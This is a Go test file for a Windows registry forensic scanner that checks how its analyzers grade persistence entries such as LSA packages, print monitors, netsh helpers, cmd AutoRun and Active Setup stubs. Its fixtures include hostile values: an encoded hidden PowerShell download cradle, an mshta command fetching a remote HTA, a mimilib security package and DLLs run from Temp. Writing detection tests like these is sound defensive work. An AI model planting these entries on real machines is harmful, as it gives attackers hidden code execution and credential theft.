package services

import (
	"testing"

	"github.com/hivescan/hivescan/analyzers/analysis"
	"github.com/hivescan/hivescan/analyzers/analysistest"

	"github.com/hivescan/hivescan/hive/hivetest"
	"github.com/hivescan/hivescan/internal/samples"
	"github.com/hivescan/hivescan/report"
)

// sampleHost is a baseline Windows 10 host whose hives a test case edits.
type sampleHost struct {
	sys, sw, user, def samples.Hive
}

func newSampleHost() sampleHost {
	return sampleHost{samples.System("PC", [4]uint32{1, 1, 1, 0}, 1), samples.Software(), samples.NTUser("alice"), samples.Default()}
}

func (h sampleHost) cs() *hivetest.Key { return samples.At(h.sys.Root, "ControlSet001") }

// withDefaults adds the Windows 10 values these analyzers compare against.
func (h sampleHost) withDefaults() sampleHost {
	samples.Set(h.cs(), `Control\Lsa`,
		hivetest.MultiSZ("Authentication Packages", "msv1_0"),
		hivetest.MultiSZ("Notification Packages", "scecli"),
		hivetest.MultiSZ("Security Packages", ""))
	samples.Set(h.cs(), `Control\Lsa\OSConfig`, hivetest.MultiSZ("Security Packages", "kerberos", "msv1_0", "schannel", "wdigest", "tspkg", "pku2u", "cloudAP"))
	for name, dll := range map[string]string{"Local Port": "localspl.dll", "Standard TCP/IP Port": "tcpmon.dll", "USB Monitor": "usbmon.dll", "WSD Port": "APMon.dll", "Appmon": "AppMon.dll", "Microsoft Shared Fax Monitor": "FXSMON.DLL"} {
		samples.Set(h.cs(), `Control\Print\Monitors\`+name, hivetest.SZ("Driver", dll))
	}
	samples.Set(h.cs(), `Services\W32Time\TimeProviders\NtpClient`, hivetest.ExpandSZ("DllName", `%systemroot%\system32\w32time.dll`))
	samples.Set(h.cs(), `Services\W32Time\TimeProviders\VMICTimeProvider`, hivetest.ExpandSZ("DllName", `%SystemRoot%\System32\vmictimeprovider.dll`))
	samples.Set(h.sw.Root, `Microsoft\NetSh`, hivetest.SZ("2", "ifmon.dll"), hivetest.SZ("4", "rasmontr.dll"), hivetest.SZ("wlancfg", "wlancfg.dll"), hivetest.SZ("nettrace", "nettrace.dll"))
	samples.Set(h.sw.Root, `Microsoft\Wow64\x86`, hivetest.SZ("", "wow64cpu.dll"))
	samples.Set(h.sw.Root, `Microsoft\Active Setup\Installed Components\{89820200-ECBD-11cf-8B85-00AA005B4383}`, hivetest.SZ("", "Internet Explorer"), hivetest.ExpandSZ("StubPath", `%SystemRoot%\system32\ie4uinit.exe -UserConfig`))
	samples.Set(h.sw.Root, `Microsoft\Active Setup\Installed Components\>{22d6f312-b0f6-11d0-94ab-0080c74c7e95}`, hivetest.ExpandSZ("StubPath", `%SystemRoot%\system32\unregmp2.exe /FirstLogon`))
	samples.Set(h.sw.Root, `Microsoft\Active Setup\Installed Components\{2C7339CF-2B09-4501-B3F3-F3508C9228ED}`, hivetest.SZ("StubPath", `"C:\Windows\System32\rundll32.exe" C:\Windows\System32\iesetup.dll,IEHardenUser`))
	return h
}

func TestServiceFamilyAutostarts(t *testing.T) {
	tests := []struct {
		name string
		a    *analysis.Analyzer
		edit func(h sampleHost)
		want report.Severity
		rule string // rule of the most severe finding; "" expects none
	}{
		{"lsa defaults", LSA, func(h sampleHost) {}, report.Info, ""},
		{"extra authentication package", LSA, func(h sampleHost) {
			samples.Set(h.cs(), `Control\Lsa`, hivetest.MultiSZ("Authentication Packages", "msv1_0", "evilauth"))
		}, report.High, "lsa.package"},
		{"password filter", LSA, func(h sampleHost) {
			samples.Set(h.cs(), `Control\Lsa`, hivetest.MultiSZ("Notification Packages", "scecli", "rassfm", "pwfilter"))
		}, report.High, "lsa.package"},
		{"mimilib ssp in OSConfig", LSA, func(h sampleHost) {
			samples.Set(h.cs(), `Control\Lsa\OSConfig`, hivetest.MultiSZ("Security Packages", "kerberos", "msv1_0", "mimilib"))
		}, report.High, "lsa.package"},
		{"ssp by path in Temp", LSA, func(h sampleHost) {
			samples.Set(h.cs(), `Control\Lsa`, hivetest.MultiSZ("Security Packages", "kerberos", `C:\Windows\Temp\ssp.dll`))
		}, report.High, "lsa.package"},
		{"windows 7 security packages", LSA, func(h sampleHost) {
			samples.Set(h.cs(), `Control\Lsa`, hivetest.MultiSZ("Security Packages", "kerberos", "msv1_0", "schannel", "wdigest", "tspkg", "pku2u"))
		}, report.Info, ""},
		{"developer-mode ssh package", LSA, func(h sampleHost) {
			samples.Set(h.cs(), `Control\Lsa`, hivetest.MultiSZ("Authentication Packages", "msv1_0", "SshdPinAuthLsa"))
		}, report.Low, "lsa.optional-package"},
		{"print monitor defaults", PrintMonitors, func(h sampleHost) {}, report.Info, ""},
		{"vendor language monitor", PrintMonitors, func(h sampleHost) {
			samples.Set(h.cs(), `Control\Print\Monitors\ThinPrint Print Port Monitor for VMWare`, hivetest.SZ("Driver", "TPVMMon.dll"))
		}, report.Low, "printmonitor.driver"},
		{"print monitor by path", PrintMonitors, func(h sampleHost) {
			samples.Set(h.cs(), `Control\Print\Monitors\Evil`, hivetest.SZ("Driver", `C:\ProgramData\mon\mon.dll`))
		}, report.High, "printmonitor.driver"},
		{"time provider defaults", TimeProviders, func(h sampleHost) {}, report.Info, ""},
		{"extra time provider", TimeProviders, func(h sampleHost) {
			samples.Set(h.cs(), `Services\W32Time\TimeProviders\Evil`, hivetest.ExpandSZ("DllName", `C:\Users\Public\tp.dll`))
		}, report.High, "timeprovider.dll"},
		{"netsh defaults", Netsh, func(h sampleHost) {}, report.Info, ""},
		{"netsh helper by name", Netsh, func(h sampleHost) {
			samples.Set(h.sw.Root, `Microsoft\NetSh`, hivetest.SZ("helper", "nshelper.dll"))
		}, report.Medium, "netsh.helper"},
		{"netsh helper by path", Netsh, func(h sampleHost) {
			samples.Set(h.sw.Root, `Wow6432Node\Microsoft\NetSh`, hivetest.SZ("helper", `C:\Tools\nshelper.dll`))
		}, report.High, "netsh.helper"},
		{"wow64 defaults", Wow64, func(h sampleHost) {}, report.Info, ""},
		{"wow64 layer replaced", Wow64, func(h sampleHost) {
			samples.Set(h.sw.Root, `Microsoft\Wow64\x86`, hivetest.SZ("", "evilcpu.dll"))
		}, report.High, "wow64.cpu-layer"},
		{"wow64 system key replaced", Wow64, func(h sampleHost) {
			samples.Set(h.cs(), `Control\Wow64`, hivetest.SZ("", `C:\ProgramData\w.dll`))
		}, report.High, "wow64.cpu-layer"},
		{"no cmd autorun", CmdAutoRun, func(h sampleHost) {}, report.Info, ""},
		{"machine cmd autorun", CmdAutoRun, func(h sampleHost) {
			samples.Set(h.sw.Root, `Microsoft\Command Processor`, hivetest.SZ("AutoRun", `C:\Windows\System32\doskey.exe /macrofile=C:\Tools\macros.txt`))
		}, report.Medium, "cmdautorun.autorun"},
		{"user cmd autorun in AppData", CmdAutoRun, func(h sampleHost) {
			samples.Set(h.user.Root, `Software\Microsoft\Command Processor`, hivetest.SZ("AutoRun", `powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`))
		}, report.Critical, "cmdautorun.autorun"}, // a download cradle: the assessor decides
		{"active setup defaults", ActiveSetup, func(h sampleHost) {}, report.Info, ""},
		{"active setup product stub", ActiveSetup, func(h sampleHost) {
			samples.Set(h.sw.Root, `Microsoft\Active Setup\Installed Components\{9459C573-B17A-45AE-9F64-1857B5D58CEE}`, hivetest.SZ("StubPath", `"C:\Program Files (x86)\Microsoft\Edge\Application\120.0\Installer\setup.exe" --configure-user-settings --verbose-logging --system-level`))
			samples.Set(h.sw.Root, `Microsoft\Active Setup\Installed Components\{ACME}`, hivetest.SZ("StubPath", `"C:\Program Files\Acme\firstrun.exe"`))
		}, report.Info, "activesetup.stubpath"},
		{"active setup stub in ProgramData", ActiveSetup, func(h sampleHost) {
			samples.Set(h.sw.Root, `Wow6432Node\Microsoft\Active Setup\Installed Components\{EVIL}`, hivetest.SZ("StubPath", `C:\ProgramData\u\u.exe`))
		}, report.Medium, "activesetup.stubpath"},
		{"active setup rundll32 payload in Temp", ActiveSetup, func(h sampleHost) {
			samples.Set(h.sw.Root, `Microsoft\Active Setup\Installed Components\{EVIL}`, hivetest.SZ("StubPath", `rundll32.exe C:\Windows\Temp\x.dll,Run`))
		}, report.High, "activesetup.stubpath"},
		{"no provisioning commands", Provisioning, func(h sampleHost) {}, report.Info, ""},
		{"provisioning command of a product", Provisioning, func(h sampleHost) {
			samples.Set(h.sw.Root, `Microsoft\Provisioning\Commands\AcmeSetup\{5E1A}`, hivetest.DWORD("altitude", 0))
			samples.Set(h.sw.Root, `Microsoft\Provisioning\Commands\AcmeSetup\{5E1A}\1`, hivetest.SZ("CommandLine", `"C:\Program Files\Acme\setup.exe" /quiet`))
		}, report.Medium, "provisioning.command"},
		{"provisioning command runs a remote script", Provisioning, func(h sampleHost) {
			samples.Set(h.sw.Root, `Wow6432Node\Microsoft\Provisioning\Commands\LOLBin\dummy1`, hivetest.DWORD("altitude", 0))
			samples.Set(h.sw.Root, `Wow6432Node\Microsoft\Provisioning\Commands\LOLBin\dummy1\dummy2`, hivetest.SZ("Commandline", `mshta.exe http://203.0.113.5/p.hta`))
		}, report.High, "provisioning.command"}, // a remote script: the assessor raises it
		{"command line outside the step layout", Provisioning, func(h sampleHost) {
			samples.Set(h.sw.Root, `Microsoft\Provisioning\Commands\LOLBin`, hivetest.SZ("CommandLine", `C:\Users\Public\p.exe`))
		}, report.Info, ""},
		{"svchost groups match", Svchost, func(h sampleHost) {
			samples.Set(h.sw.Root, svchostKey, hivetest.MultiSZ("NetworkService", "Dnscache"))
		}, report.Info, ""},
		{"svchost group leftover", Svchost, func(h sampleHost) {
			samples.Set(h.sw.Root, svchostKey, hivetest.MultiSZ("NetworkService", "Dnscache", "Nla"))
		}, report.Low, "svchost.group-missing-service"},
		{"svchost group not defined", Svchost, func(h sampleHost) {
			samples.Set(h.sw.Root, svchostKey, hivetest.MultiSZ("NetworkService", "Dnscache"))
			samples.Set(h.cs(), `Services\UpdSvc`, ownProcess(`%SystemRoot%\system32\svchost.exe -k UpdGroup`)...)
		}, report.Medium, "svchost.unknown-group"},
		{"disabled service of an undefined svchost group", Svchost, func(h sampleHost) {
			samples.Set(h.sw.Root, svchostKey, hivetest.MultiSZ("NetworkService", "Dnscache"))
			samples.Set(h.cs(), `Services\OldSvc`, hivetest.ExpandSZ("ImagePath", `%SystemRoot%\system32\svchost.exe -k OldGroup`), hivetest.DWORD("Type", 0x20), hivetest.DWORD("Start", 4))
		}, report.Low, "svchost.unknown-group"},
		{"svchost groups unknown without a Svchost key", Svchost, func(h sampleHost) {
			samples.Set(h.cs(), `Services\UpdSvc`, ownProcess(`%SystemRoot%\system32\svchost.exe -k UpdGroup`)...)
		}, report.Info, ""},
		{"active setup uninstalled", ActiveSetup, func(h sampleHost) {
			samples.Set(h.sw.Root, `Microsoft\Active Setup\Installed Components\{EVIL}`, hivetest.SZ("StubPath", `C:\ProgramData\u\u.exe`), hivetest.DWORD("IsInstalled", 0))
		}, report.Info, ""},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			h := newSampleHost().withDefaults()
			tc.edit(h)
			fs := analysistest.Run(t, tc.a, analysistest.HostOf(t, "h", h.sys, h.sw, h.user, h.def))
			if tc.rule == "" {
				if len(fs) != 0 {
					t.Fatalf("want no finding, got %+v", fs)
				}
				return
			}
			if len(fs) == 0 {
				t.Fatalf("no finding, want %s %s", tc.want, tc.rule)
			}
			f := fs[0]
			if f.Severity != tc.want || f.Rule != tc.rule {
				t.Errorf("got %s %s (%s), want %s %s; detail %s", f.Severity, f.Rule, f.Title, tc.want, tc.rule, f.Detail)
			}
			if f.Value == nil || f.LastWrite.IsZero() || len(f.Attack) == 0 || f.Detail == "" || f.Title == "" {
				t.Errorf("evidence: %+v", f)
			}
			if f.HiveKind == "SYSTEM" && (f.ControlSet != "ControlSet001" || len(f.ControlSetRole) == 0) {
				t.Errorf("control set %q %v", f.ControlSet, f.ControlSetRole)
			}
		})
	}
}
